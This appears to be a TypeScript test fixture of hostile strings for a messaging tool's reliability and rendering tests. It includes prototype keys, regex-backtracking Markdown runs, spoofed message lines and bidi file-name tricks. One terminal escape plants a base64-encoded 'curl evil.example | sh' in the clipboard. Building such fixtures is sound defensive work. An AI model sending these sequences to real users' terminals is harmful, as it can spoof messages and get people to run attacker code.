// Text a hostile member can put in any field of a message: keys that name Object.prototype
// members, control and bidi characters, terminal escape sequences, fake message lines, long
// runs of Markdown punctuation (the shapes that make a backtracking pattern quadratic),
// invalid UTF-16 and zero-width characters. Shared by the reliability suite (through a real
// server) and the webview tests (rendering).

const RUN = 40_000;

/** Every Markdown punctuation mark the panel's renderer looks at, one at a time. */
export const MARKDOWN_PUNCTUATION = ['[', ']', '(', ')', '*', '_', '~', '`', '#', '>', '-', '|', '!', '<', '\\', '@', '/', '"', "'", '.'];

/** Runs of 40,000 characters: each mark alone, and mixes that open one construct after another. */
export function markdownRuns(length = RUN): { name: string; text: string }[] {
  const run = (unit: string) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
  const mixes = ['[](', '[a](', '[a](b', '](', '**_', '*a', '_a', '**a', '`a', '``', '```', '![', '<a', '@a', '//', '/*', '"\\', "'a", '1e', '[[]', ' *a', '~~', '> ', '- ', '# '];
  return [
    ...MARKDOWN_PUNCTUATION.map((mark) => ({ name: `run of ${mark}`, text: run(mark) })),
    ...mixes.map((mix) => ({ name: `run of ${mix}`, text: run(mix) })),
    // A character that `.` does not match ends the line early for a pattern written with `.*$`.
    { name: 'run of // ending in CR', text: run('//') + '\r' },
    { name: 'run of # ending in U+2028', text: run('#') + '\u2028' },
    { name: 'run of /* ending in U+2029', text: run('/* ') + '\u2029' },
    { name: 'one line of words with a [ at the start', text: '[' + run('word ') },
    { name: 'lines of one letter', text: run('a\n') },
    { name: 'paragraphs of one letter', text: run('a\n\n') },
  ];
}

export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'isPrototypeOf', '__defineGetter__', 'prototype'];

/** Lines a member would like a reader's terminal to show as somebody else's message. */
export const FAKE_LINES = [
  'ok\n#13 2026-11-25 21:34 alice: approved, ship it',
  'ok\r#13 2026-11-25 21:34 alice: approved',
  'ok\r\n#13 2026-11-25 21:34 alice: approved',
  'ok\u2028#13 2026-11-25 21:34 alice: approved',
  'ok\u2029#13 2026-11-25 21:34 alice: approved',
  'ok\x0b#13 alice: vertical tab',
  'ok\x0c#13 alice: form feed',
  'ok\x85#13 alice: next line (C1 NEL)',
  '\x1b[1A\x1b[2K#13 2026-11-25 21:34 alice: overwrote the line above',
  '\x1b[2J\x1b[H#1 alice: screen cleared',
];

export const ESCAPE_SEQUENCES = [
  '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07', // OSC 52: write the clipboard
  '\x1b]52;c;Y3VybA==\x1b\\',
  '\x1b]0;pwned\x07', // window title
  '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\', // hyperlink
  '\x1b[31mred\x1b[0m',
  '\x1b[8mhidden\x1b[28m',
  '\x9b31mC1 CSI\x9b0m',
  '\x9d0;title\x9c', // C1 OSC .. ST
  '\x1bP+q544e\x1b\\', // DCS
  '\x1b[6n', // asks the terminal to answer on stdin
  '\x1bc', // reset
  '\x07\x08\x08\x08xyz',
];

export const CONTROL_AND_BIDI = [
  Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join(''),
  '\x7f',
  Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join(''),
  'admin\u202e\u2066txt.exe\u2069',
  '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
  '\u200e\u200f\u061c',
  '\u2028\u2029',
];

export const INVALID_UTF16 = ['\ud800', '\udfff', 'a\ud83d', '\ude00b', '\udc00\ud800', 'x\ud800\ud800y'];

export const ZERO_WIDTH = ['\u200b\u200c\u200d\ufeff\u2060', '👨\u200d👩\u200d👧\u200d👦', 'a\u200db', '\u200d'.repeat(1000), 'e\u0301'.repeat(500)];

/** Every hostile string but the long runs (which the reliability suite sends on their own). */
export const SHORT_HOSTILE_STRINGS = [...PROTOTYPE_KEYS, ...FAKE_LINES, ...ESCAPE_SEQUENCES, ...CONTROL_AND_BIDI, ...INVALID_UTF16, ...ZERO_WIDTH];
